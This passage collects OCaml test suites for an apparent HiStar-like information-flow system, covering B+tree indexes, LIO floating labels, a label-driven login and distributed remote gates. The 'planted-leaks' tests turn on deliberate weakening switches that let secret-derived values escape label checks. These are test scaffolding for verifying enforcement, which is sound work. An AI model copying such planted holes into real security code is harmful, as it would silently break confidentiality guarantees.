      Gen.map (fun k -> Find k) gen_key;
      Gen.map2 (fun k v -> Ins (k, Int64.of_int v)) gen_key (Gen.int_range 0 1000);
      Gen.map (fun k -> Del k) gen_key;
    ]

let gen_ops = Gen.(resize 60 (list gen_op))

let apply_differential order ops =
  let t = ref (Bptree.create ~order ()) in
  let m = ref I64Map.empty in
  List.iter
    (fun op ->
      (match op with
      | Ins (k, v) ->
          t := Bptree.insert !t k v;
          m := I64Map.add k v !m
      | Del k ->
          let removed =
            match Bptree.remove !t k with
            | Some t' ->
                t := t';
                true
            | None -> false
          in
          Check.ensure ~msg:(Printf.sprintf "remove %Ld disagrees" k)
            (removed = I64Map.mem k !m);
          m := I64Map.remove k !m
      | Find k ->
          Check.ensure ~msg:(Printf.sprintf "find %Ld disagrees" k)
            (Bptree.find !t k = I64Map.find_opt k !m));
      Bptree.check_invariants !t;
      Check.ensure ~msg:"cardinal disagrees"
        (Bptree.cardinal !t = I64Map.cardinal !m))
    ops;
  Check.ensure ~msg:"final bindings disagree"
    (Bptree.to_list !t = I64Map.bindings !m);
  (* ordered queries against the model, at every key in the window *)
  let bindings = I64Map.bindings !m in
  for k = 0 to 50 do
    let k = Int64.of_int k in
    let geq = List.find_opt (fun (k', _) -> Int64.compare k' k >= 0) bindings in
    Check.ensure ~msg:(Printf.sprintf "find_geq %Ld disagrees" k)
      (Bptree.find_geq !t k = geq);
    let leq =
      List.fold_left
        (fun acc (k', v) -> if Int64.compare k' k <= 0 then Some (k', v) else acc)
        None bindings
    in
    Check.ensure ~msg:(Printf.sprintf "find_leq %Ld disagrees" k)
      (Bptree.find_leq !t k = leq)
  done

let check_tests =
  [
    Check.test_case ~print:pp_ops "differential vs Map (order 4)" gen_ops
      (apply_differential 4);
    Check.test_case ~print:pp_ops "differential vs Map (order 16)" gen_ops
      (apply_differential 16);
  ]

let () =
  Alcotest.run "histar_btree"
    [
      ( "bptree",
        [
          Alcotest.test_case "empty" `Quick test_empty;
          Alcotest.test_case "insert/find" `Quick test_insert_find;
          Alcotest.test_case "replace" `Quick test_replace;
          Alcotest.test_case "delete all" `Quick test_delete_all;
          Alcotest.test_case "ordered queries" `Quick test_ordered_queries;
          Alcotest.test_case "iter sorted" `Quick test_iter_sorted;
          Alcotest.test_case "height" `Quick test_height_logarithmic;
          Alcotest.test_case "codec" `Quick test_codec_roundtrip;
        ] );
      ( "persistence",
        [
          Alcotest.test_case "versions independent" `Quick
            test_versions_independent;
          Alcotest.test_case "fork allocs O(height)" `Quick
            test_fork_allocs_o_height;
          Alcotest.test_case "remove allocs O(height)" `Quick
            test_remove_allocs_o_height;
        ] );
      ( "model",
        List.map QCheck_alcotest.to_alcotest
          [ prop_model 4; prop_model 16; prop_random_churn;
            prop_versions_persistent ] );
      ("differential (histar_check)", check_tests);
    ]
