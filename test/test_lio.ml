(* The LIO-style floating-label layer (lib/lio) on a real kernel: label
   monotonicity, to_labeled scope restoration via one-shot gates, the
   catch/taint discipline, kernel-backed labeled refs, and a §6.2-style
   login driven through LIO primitives that is observationally
   identical to the raw-gate version. *)

module Kernel = Histar_core.Kernel
module Sys = Histar_core.Sys
module Lio = Histar_lio.Lio
open Histar_core.Types
open Histar_label

let l1 = Label.make Level.L1

(* One kernel, one thread owning a freshly minted secrecy category [s],
   a Lio context with a scratch at {s3,1}. *)
let with_lio f =
  let k = Kernel.create () in
  let result = ref None in
  let failure = ref None in
  ignore
    (Kernel.spawn k ~name:"lio-main" (fun () ->
         let s = Sys.cat_create () in
         let hi = Label.of_list [ (s, Level.L3) ] Level.L1 in
         let ctx = Lio.init ~levels:[ hi ] ~container:(Kernel.root k) () in
         match f ~s ~hi ctx with
         | v -> result := Some v
         | exception e -> failure := Some (Printexc.to_string e)));
  Kernel.run k;
  match (!result, !failure) with
  | Some v, _ -> v
  | None, Some m -> Alcotest.fail ("lio-main crashed: " ^ m)
  | None, None -> Alcotest.fail "lio-main did not complete"

let test_monotonic_and_restore () =
  with_lio (fun ~s ~hi ctx ->
      let l0 = Lio.current_label () in
      Alcotest.(check bool) "thread owns its category" true (Label.owns l0 s);
      let secret = Lio.new_ref ctx ~name:"high" hi "classified" in
      let lv =
        Lio.to_labeled ctx hi (fun () ->
            let before = Lio.current_label () in
            let v = Lio.read_ref secret in
            let after = Lio.current_label () in
            Alcotest.(check bool) "label only rises inside" true
              (Label.leq before after);
            Alcotest.(check bool) "taint clobbers ownership" true
              (Label.get after s = Level.L3 && not (Label.owns after s));
            v)
      in
      Alcotest.(check bool) "to_labeled restores the pre-block label" true
        (Label.equal (Lio.current_label ()) l0);
      Alcotest.(check bool) "result carries the block label" true
        (Label.equal (Lio.label_of lv) hi);
      (* outside any to_labeled, unlabel rises and stays risen *)
      Alcotest.(check string) "value intact" "classified" (Lio.unlabel lv);
      Alcotest.(check bool) "unlabel taints for good" true
        (Label.get (Lio.current_label ()) s = Level.L3))

let test_to_labeled_clearance_bound () =
  with_lio (fun ~s:_ ~hi ctx ->
      let secret = Lio.new_ref ctx ~name:"high" hi "top" in
      let l0 = Lio.current_label () in
      (* a {1} block cannot observe {s3} data: the kernel refuses the
         taint inside the block, and the failure comes back as a
         labeled exception rather than escaping the scope *)
      let lv = Lio.to_labeled ctx l1 (fun () -> Lio.read_ref secret) in
      Alcotest.(check bool) "label restored after refused block" true
        (Label.equal (Lio.current_label ()) l0);
      (match Lio.unlabel lv with
      | _ -> Alcotest.fail "expected the captured kernel denial"
      | exception Kernel_error (Label_check _) -> ());
      Alcotest.(check bool) "unlabel of a {1} result does not taint" true
        (Label.equal (Lio.current_label ()) l0))

let test_catch_taints_handler () =
  with_lio (fun ~s ~hi ctx ->
      let secret = Lio.new_ref ctx ~name:"high" hi "payload" in
      let handler_label = ref l1 in
      let r =
        Lio.catch ctx
          (fun () ->
            ignore (Lio.read_ref secret);
            raise Exit)
          (fun e ->
            Alcotest.(check bool) "original exception" true (e = Exit);
            handler_label := Lio.current_label ();
            "handled")
      in
      Alcotest.(check string) "handler ran" "handled" r;
      Alcotest.(check bool) "handler runs at the throw-point label" true
        (Label.get !handler_label s = Level.L3);
      Alcotest.(check bool) "taint survives the catch" true
        (Label.get (Lio.current_label ()) s = Level.L3);
      (* the success path re-taints the same way *)
      let l0 = Lio.current_label () in
      let v = Lio.catch ctx (fun () -> Lio.read_ref secret) (fun _ -> "?") in
      Alcotest.(check string) "body result" "payload" v;
      Alcotest.(check bool) "success path keeps the block's taint" true
        (Label.leq l0 (Lio.current_label ())))

let test_refs_kernel_backed () =
  with_lio (fun ~s:_ ~hi ctx ->
      let low = Lio.new_ref ctx ~name:"low" l1 "public" in
      let secret = Lio.new_ref ctx ~name:"high" hi "sekrit" in
      Alcotest.(check string) "low read" "public" (Lio.read_ref low);
      ignore (Lio.read_ref secret);
      (* tainted: the library refuses the write down... *)
      (match Lio.write_ref low "leak" with
      | () -> Alcotest.fail "write down must be refused"
      | exception Lio.Lio_error _ -> ());
      (* ...and the kernel stands behind it even if the library is
         bypassed *)
      (match Sys.segment_write (Lio.ref_entry low) "leak" with
      | () -> Alcotest.fail "kernel must refuse the raw write too"
      | exception Kernel_error (Label_check _) -> ());
      (* writing *up* while public is fine, reading it taints *)
      Alcotest.(check string) "low ref unchanged" "public" (Lio.read_ref low))

let test_labeled_exception_roundtrip () =
  with_lio (fun ~s:_ ~hi ctx ->
      let l0 = Lio.current_label () in
      let lv = Lio.to_labeled ctx hi (fun () -> failwith "boom") in
      Alcotest.(check bool) "label restored" true
        (Label.equal (Lio.current_label ()) l0);
      (match Lio.unlabel lv with
      | _ -> Alcotest.fail "expected the captured exception"
      | exception Failure m -> Alcotest.(check string) "payload" "boom" m);
      Alcotest.(check bool) "unlabel taints before rethrowing" true
        (Label.leq hi (Label.lub (Lio.current_label ()) hi)
        && Label.get (Lio.current_label ())
             (List.hd (Label.entries hi) |> fst)
           = Level.L3))

let test_label_checks () =
  with_lio (fun ~s:_ ~hi ctx ->
      ignore (Lio.label hi "up is fine");
      ignore (Lio.read_ref (Lio.new_ref ctx ~name:"h" hi "x"));
      (* now tainted: labeling below the current label is refused *)
      (match Lio.label l1 "down" with
      | _ -> Alcotest.fail "label below current must be refused"
      | exception Lio.Lio_error _ -> ());
      (match Lio.new_ref ctx l1 "down" with
      | _ -> Alcotest.fail "new_ref below current must be refused"
      | exception Lio.Lio_error _ -> ()))

let test_scope_gates_are_reaped () =
  with_lio (fun ~s:_ ~hi ctx ->
      let scratch = Lio.scratch_for ctx (Lio.current_label ()) in
      let count () =
        List.length (Sys.container_list (self_entry scratch))
      in
      let secret = Lio.new_ref ctx ~name:"high" hi "x" in
      let before = count () in
      for _ = 1 to 8 do
        ignore (Lio.to_labeled ctx hi (fun () -> Lio.read_ref secret))
      done;
      Alcotest.(check int) "scope and return gates all reaped" before
        (count ()))

let test_one_shot_gate_single_use () =
  with_lio (fun ~s:_ ~hi:_ ctx ->
      let scratch = Lio.scratch_for ctx (Lio.current_label ()) in
      let hits = ref 0 in
      let g =
        Sys.gate_create ~one_shot:true ~container:scratch
          ~label:(Sys.self_label ())
          ~clearance:(Sys.self_clearance ())
          ~quota:4096L ~name:"once" (fun () ->
            incr hits;
            Sys.gate_return ())
      in
      let call () =
        Sys.gate_call ~gate:(centry scratch g) ~label:(Sys.self_label ())
          ~clearance:(Sys.self_clearance ())
          ~return_container:scratch
          ~return_label:(Sys.self_label ())
          ~return_clearance:(Sys.self_clearance ())
          ()
      in
      call ();
      Alcotest.(check int) "first call runs" 1 !hits;
      (match call () with
      | () -> Alcotest.fail "second call must find no gate"
      | exception Kernel_error (Not_found_ _) -> ());
      Alcotest.(check int) "entry did not run again" 1 !hits)

let test_weaken_to_labeled_result () =
  with_lio (fun ~s ~hi ctx ->
      let secret = Lio.new_ref ctx ~name:"high" hi "odd-one" in
      Lio.set_weaken (Some Lio.Weaken_toLabeled_result);
      Fun.protect
        ~finally:(fun () -> Lio.set_weaken None)
        (fun () ->
          (* the planted leak: the {1} block reads {s3} data and its
             result comes back labeled {1} *)
          let lv =
            Lio.to_labeled ctx l1 (fun () ->
                string_of_int (String.length (Lio.read_ref secret)))
          in
          let v = Lio.unlabel lv in
          Alcotest.(check string) "secret-derived value escaped" "7" v;
          Alcotest.(check bool) "and the thread is not even tainted" true
            (Label.get (Lio.current_label ()) s <> Level.L3)))

let test_weaken_lio_catch () =
  with_lio (fun ~s ~hi ctx ->
      let secret = Lio.new_ref ctx ~name:"high" hi "x" in
      Lio.set_weaken (Some Lio.Weaken_lio_catch);
      Fun.protect
        ~finally:(fun () -> Lio.set_weaken None)
        (fun () ->
          let handler_label = ref hi in
          ignore
            (Lio.catch ctx
               (fun () ->
                 ignore (Lio.read_ref secret);
                 raise Exit)
               (fun _ ->
                 handler_label := Lio.current_label ();
                 "leaked"));
          Alcotest.(check bool)
            "planted leak: handler runs at the laundered pre-taint label" true
            (Label.get !handler_label s <> Level.L3)))

(* --- §6.2 login via LIO ------------------------------------------- *)

module Process = Histar_unix.Process
module Fs = Histar_unix.Fs
module Login = Histar_auth.Login
module Authd = Histar_auth.Authd
module Dird = Histar_auth.Dird
module Logd = Histar_auth.Logd
module Users = Histar_unix.Users
module Proto = Histar_auth.Proto
module Agreed = Histar_auth.Agreed
module Codec = Histar_util.Codec

(* login_via_gate with the password-handling step driven through LIO:
   the credential handover (the only step that handles the secret) runs
   inside a Lio scope, explicitly tainted pir3; leaving the scope is the
   pir owner's declassification of the one-bit outcome — exactly the
   flow the raw protocol gets from its return gate. *)
let lio_login ~proc ~setup_gate ~username ~password =
  let ctx = Lio.init ~container:(Process.container proc) () in
  let pir = Sys.cat_create () in
  let sw = Sys.cat_create () in
  let session =
    Sys.container_create ~container:(Process.container proc)
      ~label:(Label.of_list [ (sw, Level.L0) ] Level.L1)
      ~quota:1_048_576L "login session"
  in
  let agreed_gate, agreed_marker = Agreed.install ~container:session ~pir in
  let e = Codec.Enc.create () in
  Codec.Enc.i64 e session;
  Codec.Enc.i64 e (Category.to_int64 pir);
  Proto.enc_centry e agreed_gate;
  Proto.enc_centry e agreed_marker;
  Sys.tls_write (Codec.Enc.to_string e);
  Sys.gate_call ~gate:setup_gate
    ~label:(Label.set (Sys.gate_floor setup_gate) pir Level.L1)
    ~clearance:(Label.set (Sys.self_clearance ()) pir Level.L2)
    ~return_container:session
    ~return_label:(Sys.self_label ())
    ~return_clearance:(Sys.self_clearance ()) ();
  let reply = Sys.tls_read () in
  if String.length reply = 0 then Login.Setup_rejected
  else begin
    let _retry, check, grant, challenge = Proto.dec_setup_reply reply in
    let pir3 = Label.of_list [ (pir, Level.L3) ] Level.L1 in
    let labeled_pw = Lio.label pir3 password in
    (* §6.1 tainted workspace: unlike the raw protocol — which is only
       tainted *during* the gate transfer — the LIO flow taints itself
       before calling the check gate, so its return gate needs a
       container already at pir3. *)
    let workspace =
      Sys.container_create ~container:session ~label:pir3 ~quota:65536L
        "tainted workspace"
    in
    let ok_out, _final =
      Lio.with_scope ctx (fun () ->
          let pw = Lio.unlabel labeled_pw in
          let credential =
            match challenge with
            | None -> `Password pw
            | Some ch ->
                let password_hash =
                  Proto.hash_password ~salt:("histar-salt-" ^ username)
                    ~password:pw
                in
                `Response
                  (Proto.challenge_response ~password_hash ~challenge:ch)
          in
          Sys.tls_write (Proto.enc_credential credential);
          Sys.gate_call ~gate:check
            ~label:(Label.set (Sys.gate_floor check) pir Level.L3)
            ~clearance:(Sys.self_clearance ())
            ~return_container:workspace
            ~return_label:(Sys.self_label ())
            ~return_clearance:(Sys.self_clearance ()) ();
          Proto.dec_check_reply (Sys.tls_read ()))
    in
    match ok_out with
    | Error e -> raise e
    | Ok false -> Login.Bad_password
    | Ok true ->
        Sys.gate_call ~gate:grant
          ~label:(Sys.gate_floor grant)
          ~clearance:(Sys.self_clearance ())
          ~return_container:session
          ~return_label:(Sys.self_label ())
          ~return_clearance:(Sys.self_clearance ()) ();
        let d = Codec.Dec.of_string (Sys.tls_read ()) in
        let ur = Category.of_int64 (Codec.Dec.i64 d) in
        let uw = Category.of_int64 (Codec.Dec.i64 d) in
        let owned = Label.owned (Sys.self_label ()) in
        if Category.Set.mem ur owned && Category.Set.mem uw owned then begin
          Sys.self_set_clearance
            (Label.set
               (Label.set (Sys.self_clearance ()) ur Level.L3)
               uw Level.L3);
          Login.Granted { Process.user_name = username; ur; uw }
        end
        else Login.Setup_rejected
  end

type login_world = {
  k : Kernel.t;
  proc : Process.t;
  fs : Fs.t;
  log : Logd.t;
  dir : Dird.t;
  bob : Process.user;
}

let with_login_world f =
  let k = Kernel.create () in
  let result = ref None in
  let failure = ref None in
  ignore
    (Kernel.spawn k ~name:"init" (fun () ->
         let fs = Fs.format_root ~container:(Kernel.root k) ~label:l1 in
         let proc =
           Process.boot ~fs ~container:(Kernel.root k) ~name:"init" ()
         in
         let log = Logd.start proc in
         let dir = Dird.start proc in
         let bob = Users.create_user ~fs ~name:"bob" in
         Fs.write_file fs "/home/bob/secret" "bob's secret data";
         let _authd =
           Authd.start proc ~user:bob ~password:"hunter2" ~log ~dir ()
         in
         match f { k; proc; fs; log; dir; bob } with
         | v -> result := Some v
         | exception e -> failure := Some (Printexc.to_string e)));
  Kernel.run k;
  match (!result, !failure) with
  | Some v, _ -> v
  | None, Some m -> Alcotest.fail ("init crashed: " ^ m)
  | None, None -> Alcotest.fail "init did not complete"

(* Observable footprint of one login attempt: outcome shape, whether
   the real user categories were granted, whether bob's secret became
   readable, and the audit log. *)
let observe_login w login ~password =
  let outcome = ref None in
  let secret = ref None in
  let h =
    Process.spawn w.proc ~name:"sshd" (fun sshd ->
        let setup =
          Option.get
            (Dird.lookup w.dir ~return_container:(Process.internal sshd) "bob")
        in
        let o = login ~proc:sshd ~setup_gate:setup ~username:"bob" ~password in
        outcome := Some o;
        secret :=
          Some
            (match Fs.read_file (Process.fs sshd) "/home/bob/secret" with
            | s -> Some s
            | exception Kernel_error _ -> None))
  in
  ignore (Process.wait w.proc h);
  let shape =
    match Option.get !outcome with
    | Login.Granted u ->
        Printf.sprintf "granted:%s:real-cats=%b" u.Process.user_name
          (Category.equal u.Process.ur w.bob.Process.ur
          && Category.equal u.Process.uw w.bob.Process.uw)
    | Login.Bad_password -> "bad-password"
    | Login.No_such_user -> "no-such-user"
    | Login.Setup_rejected -> "setup-rejected"
  in
  (shape, Option.get !secret, Logd.entries w.log)

let test_lio_login_identical_to_raw () =
  let run login =
    with_login_world (fun w ->
        let bad = observe_login w login ~password:"wrong" in
        let ok = observe_login w login ~password:"hunter2" in
        (bad, ok))
  in
  let raw = run Login.login_via_gate in
  let lio = run lio_login in
  let check_leg name (sh_r, sec_r, log_r) (sh_l, sec_l, log_l) =
    Alcotest.(check string) (name ^ ": outcome") sh_r sh_l;
    Alcotest.(check (option string)) (name ^ ": secret visibility") sec_r sec_l;
    Alcotest.(check (list string)) (name ^ ": audit log") log_r log_l
  in
  check_leg "wrong password" (fst raw) (fst lio);
  check_leg "correct password" (snd raw) (snd lio)

let () =
  Logs.set_reporter (Logs.format_reporter ());
  Logs.set_level (Some Logs.Warning);
  Alcotest.run "histar_lio"
    [
      ( "floating-label",
        [
          Alcotest.test_case "monotonic rise + scope restore" `Quick
            test_monotonic_and_restore;
          Alcotest.test_case "to_labeled clearance bound" `Quick
            test_to_labeled_clearance_bound;
          Alcotest.test_case "catch taints the handler" `Quick
            test_catch_taints_handler;
          Alcotest.test_case "refs are kernel-backed" `Quick
            test_refs_kernel_backed;
          Alcotest.test_case "labeled exception roundtrip" `Quick
            test_labeled_exception_roundtrip;
          Alcotest.test_case "label/new_ref bounds" `Quick test_label_checks;
          Alcotest.test_case "scope gates are reaped" `Quick
            test_scope_gates_are_reaped;
          Alcotest.test_case "one-shot gate is single use" `Quick
            test_one_shot_gate_single_use;
        ] );
      ( "planted-leaks",
        [
          Alcotest.test_case "Weaken_toLabeled_result leaks" `Quick
            test_weaken_to_labeled_result;
          Alcotest.test_case "Weaken_lio_catch leaks" `Quick
            test_weaken_lio_catch;
        ] );
      ( "login",
        [
          Alcotest.test_case "LIO login == raw-gate login" `Quick
            test_lio_login_identical_to_raw;
        ] );
    ]
