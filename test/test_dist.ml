(* lib/dist: label-preserving remote gates across independent kernels.

   Covers the wire/seal/name-translation units, the conformance of
   the remote admission check against the executable model, a 2-node
   remote gate end-to-end (taint acquired remotely arrives translated
   on the caller), refusal accounting, the scale-out web cluster
   (packet-capture secrecy, wrong-password and cross-user denial),
   failover under a link flap, and bit-reproducibility of a whole
   cluster run. *)

module Label = Histar_label.Label
module Level = Histar_label.Level
module Category = Histar_label.Category
module Kernel = Histar_core.Kernel
module Sys = Histar_core.Sys
module Types = Histar_core.Types
module Metrics = Histar_metrics.Metrics
module Par = Histar_par.Par
module Hub = Histar_net.Hub
module Bridge = Histar_net.Bridge
module Addr = Histar_net.Addr
module Netd = Histar_net.Netd
module Stack = Histar_net.Stack
module Sim_host = Histar_net.Sim_host
module Sim_clock = Histar_util.Sim_clock
module Seal = Histar_crypto.Seal
module Wire = Histar_dist.Wire
module Names = Histar_dist.Names
module Proto = Histar_dist.Proto
module Distd = Histar_dist.Distd
module Cluster = Histar_dist.Cluster
module Webcluster = Histar_apps.Webcluster
module Faults = Histar_faults.Faults

let contains_sub hay needle =
  let nh = String.length hay and nn = String.length needle in
  let rec go i = i + nn <= nh && (String.sub hay i nn = needle || go (i + 1)) in
  nn = 0 || go 0

let l1 = Label.make Level.L1
let l2 = Label.make Level.L2
let l3 = Label.make Level.L3

(* --- seal --- *)

let test_seal_roundtrip () =
  let s = Seal.create ~key:0xfeedL in
  let msg = "attack at dawn \x00\xff binary ok" in
  let sealed = Seal.seal s ~nonce:42L msg in
  Alcotest.(check bool) "changed" true (sealed <> msg);
  Alcotest.(check string) "roundtrip" msg (Seal.unseal s ~nonce:42L sealed);
  Alcotest.(check bool)
    "nonce matters" true
    (Seal.unseal s ~nonce:43L sealed <> msg)

let test_seal_tagged () =
  let s = Seal.create ~key:0xbeefL in
  let sealed = Seal.seal_tagged s ~nonce:7L "payload" in
  (match Seal.unseal_tagged s ~nonce:7L sealed with
  | Some p -> Alcotest.(check string) "tagged roundtrip" "payload" p
  | None -> Alcotest.fail "tag should verify");
  let tampered =
    let b = Bytes.of_string sealed in
    Bytes.set b (Bytes.length b - 1)
      (Char.chr (Char.code (Bytes.get b (Bytes.length b - 1)) lxor 1));
    Bytes.to_string b
  in
  Alcotest.(check bool)
    "tamper detected" true
    (Seal.unseal_tagged s ~nonce:7L tampered = None);
  Alcotest.(check bool)
    "wrong key detected" true
    (Seal.unseal_tagged (Seal.create ~key:0xdeadL) ~nonce:7L sealed = None)

(* --- wire --- *)

let wl entries default = { Wire.wl_entries = entries; wl_default = default }

let test_wire_roundtrip () =
  let call =
    Wire.Call
      {
        c_service = "auth";
        c_from = 3;
        c_label = wl [ (0x1122334455667788L, 0); (9L, 4) ] 2;
        c_clear = wl [] 4;
        c_args = "user0 pw";
      }
  in
  let reply =
    Wire.Reply
      {
        r_status = Wire.S_ok;
        r_label = wl [ (5L, 3) ] 2;
        r_grants = [ 0x42L; 0x43L ];
        r_payload = "page bytes";
      }
  in
  List.iter
    (fun m ->
      Alcotest.(check bool)
        "msg roundtrip" true
        (Wire.decode_msg (Wire.encode_msg m) = m))
    [ call; reply ]

let test_wire_deframe () =
  let s = Seal.create ~key:1L in
  let m =
    Wire.Reply
      { r_status = Wire.S_error; r_label = wl [] 2; r_grants = [];
        r_payload = "x" }
  in
  let f1 = Wire.seal_msg s ~nonce:10L m in
  let f2 = Wire.seal_msg s ~nonce:11L m in
  (* byte-at-a-time delivery of two back-to-back frames *)
  let buf = ref "" and got = ref [] in
  String.iter
    (fun c ->
      buf := !buf ^ String.make 1 c;
      match Wire.deframe !buf with
      | Some (nonce, body, rest) ->
          buf := rest;
          got := (nonce, Wire.unseal_msg s ~nonce body) :: !got
      | None -> ())
    (f1 ^ f2);
  match List.rev !got with
  | [ (10L, Some m1); (11L, Some m2) ] ->
      Alcotest.(check bool) "both decoded" true (m1 = m && m2 = m)
  | _ -> Alcotest.fail "expected exactly two frames"

(* --- names --- *)

let test_names () =
  let directory = Names.Directory.create () in
  let na = Names.create ~node_id:1 ~key:99L ~directory in
  let nb = Names.create ~node_id:2 ~key:99L ~directory in
  let w1 = Names.mint na in
  let w2 = Names.mint na in
  let w3 = Names.mint nb in
  Alcotest.(check bool) "wire names distinct" true (w1 <> w2 && w1 <> w3);
  Alcotest.(check int) "origin a" 1 (Names.origin nb w1);
  Alcotest.(check int) "origin b" 2 (Names.origin na w3);
  Alcotest.(check bool)
    "origin trusted implicitly" true
    (Names.trusted_for nb ~wire:w3 ~node:2);
  Alcotest.(check bool)
    "stranger untrusted" false
    (Names.trusted_for nb ~wire:w1 ~node:3);
  Names.Directory.add_trust directory ~wire:w1 ~node:3;
  Alcotest.(check bool)
    "directory trust honored" true
    (Names.trusted_for nb ~wire:w1 ~node:3)

(* --- proto --- *)

let test_proto_translate () =
  let directory = Names.Directory.create () in
  let n = Names.create ~node_id:0 ~key:5L ~directory in
  let c = Category.of_int64 77L in
  let lbl = Label.of_list [ (c, Level.L2) ] Level.L1 in
  (match Proto.to_wire n lbl with
  | Error m ->
      Alcotest.(check bool)
        "unexported refused" true
        (contains_sub m "not exported")
  | Ok _ -> Alcotest.fail "unexported category must not serialize");
  let e = Names.record n ~wire:(Names.mint n) ~cat:c () in
  (match Proto.to_wire n lbl with
  | Ok w ->
      Alcotest.(check bool)
        "exported serializes" true
        (w.Wire.wl_entries = [ (e.Names.e_wire, Level.to_rank Level.L2) ])
  | Error m -> Alcotest.fail m);
  (* untrusted ⋆ clamps to 3, trusted ⋆ survives, J clamps *)
  let resolve _ = c in
  let star = Level.to_rank Level.Star and j = Level.to_rank Level.J in
  let back trusted rank =
    Label.get
      (Proto.of_wire ~resolve ~trusted:(fun _ -> trusted)
         (wl [ (e.Names.e_wire, rank) ] (Level.to_rank Level.L1)))
      c
  in
  Alcotest.(check bool) "untrusted star -> 3" true (back false star = Level.L3);
  Alcotest.(check bool) "trusted star -> star" true (back true star = Level.Star);
  Alcotest.(check bool) "wire J -> 3" true (back true j = Level.L3);
  Alcotest.(check bool) "garbage rank -> 3" true (back true 250 = Level.L3)

(* --- admission conformance against the executable model --- *)

let test_admit_matches_model () =
  let module Model = Histar_model.Model in
  let module Mlabel = Histar_model.Mlabel in
  let cats = [ 11L; 12L ] in
  let levels = [ 0; 2; 3; 4 ] (* ⋆, L1, L2, L3 ranks *) in
  let labels =
    (* every single-entry label over two categories, plus plain defaults *)
    List.concat_map
      (fun d ->
        wl [] d
        :: List.concat_map
             (fun c -> List.map (fun r -> wl [ (c, r) ] d) levels)
             cats)
      [ 2; 4 ]
  in
  let to_label w =
    List.fold_left
      (fun acc (c, r) -> Label.set acc (Category.of_int64 c) (Level.of_rank r))
      (Label.make (Level.of_rank w.Wire.wl_default))
      w.Wire.wl_entries
  in
  let to_mlabel w = Mlabel.of_entries w.Wire.wl_entries w.Wire.wl_default in
  let lv = wl [] 4 in
  let checked = ref 0 in
  List.iter
    (fun lt ->
      List.iter
        (fun lg ->
          List.iter
            (fun rl ->
              let ct = wl [] 4 and gclear = wl [] 4 and rc = wl [] 4 in
              let got =
                Proto.admit ~lt:(to_label lt) ~ct:(to_label ct)
                  ~lg:(to_label lg) ~gclear:(to_label gclear)
                  ~rl:(to_label rl) ~rc:(to_label rc) ~lv:(to_label lv)
              in
              let want =
                Model.check_gate_invoke ~lt:(to_mlabel lt) ~ct:(to_mlabel ct)
                  ~lg:(to_mlabel lg) ~gclear:(to_mlabel gclear)
                  ~rl:(to_mlabel rl) ~rc:(to_mlabel rc) ~lv:(to_mlabel lv)
              in
              incr checked;
              match (got, want) with
              | Ok (), Ok () -> ()
              | Error m, Error (Model.E_label, m') ->
                  Alcotest.(check string) "same refusal" m' m
              | Error _, Error _ ->
                  Alcotest.fail "model refused with a non-label error"
              | Ok (), Error (_, m) ->
                  Alcotest.fail ("dist admits what model refuses: " ^ m)
              | Error m, Ok () ->
                  Alcotest.fail ("dist refuses what model admits: " ^ m))
            labels)
        labels)
    labels;
  Alcotest.(check bool) "grid nontrivial" true (!checked > 5_000)

(* --- two-node fixture --- *)

type node = { k : Kernel.t; dist : Distd.t }

let mk_nodes ?(seed = 11L) n =
  let cluster = Cluster.create () in
  let directory = Names.Directory.create () in
  let key = Int64.logxor 0xd157L seed in
  let back = Hub.create ~clock:(Sim_clock.create ()) () in
  let ip i = Printf.sprintf "10.1.0.%d" (i + 1) in
  let peers i = Addr.v (ip i) 7000 in
  let mk i =
    let clock = Sim_clock.create () in
    let k =
      Kernel.create ~seed:(Int64.add seed (Int64.of_int (17 * (i + 1)))) ~clock ()
    in
    Cluster.add_kernel cluster k;
    let root = Kernel.root k in
    let netd =
      Netd.start k ~hub:back ~container:root ~ip:(Addr.ip_of_string (ip i))
        ~mac:(Printf.sprintf "n%d" i) ()
    in
    let names = Names.create ~node_id:i ~key ~directory in
    let dist =
      Distd.start k ~netd ~names ~key ~container:root ~port:7000 ~peers ()
    in
    { k; dist }
  in
  (cluster, Array.init n mk)

let drive_until cluster f =
  Alcotest.(check bool) "cluster made progress" true
    (Cluster.drive cluster ~until:f ())

(* --- remote gate end-to-end --- *)

let test_remote_gate_echo () =
  let cluster, nodes = mk_nodes 2 in
  Distd.register nodes.(1).dist ~service:"echo" ~label:l1 ~clearance:l3
    (fun s -> ("echo:" ^ s, []));
  Cluster.settle cluster;
  let result = ref None in
  ignore
    (Kernel.spawn nodes.(0).k ~label:l1 ~clearance:l3 ~name:"caller" (fun () ->
         result := Some (Distd.call nodes.(0).dist ~node:1 ~service:"echo" "hi")));
  drive_until cluster (fun () -> !result <> None);
  match !result with
  | Some (Ok ("echo:hi", [])) -> ()
  | Some (Ok (p, _)) -> Alcotest.fail ("unexpected payload: " ^ p)
  | Some (Error (Distd.Refused m)) -> Alcotest.fail ("refused: " ^ m)
  | Some (Error (Distd.Remote m)) -> Alcotest.fail ("remote: " ^ m)
  | Some (Error (Distd.Transport m)) -> Alcotest.fail ("transport: " ^ m)
  | None -> Alcotest.fail "no result"

let test_remote_taint_translated () =
  (* The service taints its reply with a category of its own node;
     the caller receives the taint translated into a local twin and
     ends up labeled with it — taint follows data across kernels. *)
  let cluster, nodes = mk_nodes 2 in
  let server_wire = ref None in
  ignore
    (Kernel.spawn nodes.(1).k ~label:l1 ~clearance:l3 ~name:"svc-init"
       (fun () ->
         let c = Sys.cat_create () in
         server_wire := Some (Distd.export_owned nodes.(1).dist c);
         Distd.register nodes.(1).dist ~service:"secret" ~label:l1
           ~clearance:l3 (fun _ ->
             Sys.self_set_label (Label.set (Sys.self_label ()) c Level.L2);
             ("classified", []))));
  Cluster.settle cluster;
  let result = ref None and caller_label = ref None in
  ignore
    (Kernel.spawn nodes.(0).k ~label:l1 ~clearance:l3 ~name:"caller" (fun () ->
         let r = Distd.call nodes.(0).dist ~node:1 ~service:"secret" "" in
         caller_label := Some (Sys.self_label ());
         result := Some r));
  drive_until cluster (fun () -> !result <> None);
  (match !result with
  | Some (Ok ("classified", _)) -> ()
  | _ -> Alcotest.fail "call should succeed");
  let w = Option.get !server_wire in
  (* the caller's local twin for the server's wire name is now L2 *)
  match Names.find_wire (Distd.names nodes.(0).dist) w with
  | None -> Alcotest.fail "caller never imported the taint category"
  | Some e ->
      Alcotest.(check bool)
        "caller tainted at translated category" true
        (Label.get (Option.get !caller_label) e.Names.e_cat = Level.L2)

let test_remote_grant_claimed () =
  (* The service grants ownership of its category through the reply;
     the caller claims it and can then assert ⋆ of the local twin. *)
  let cluster, nodes = mk_nodes 2 in
  ignore
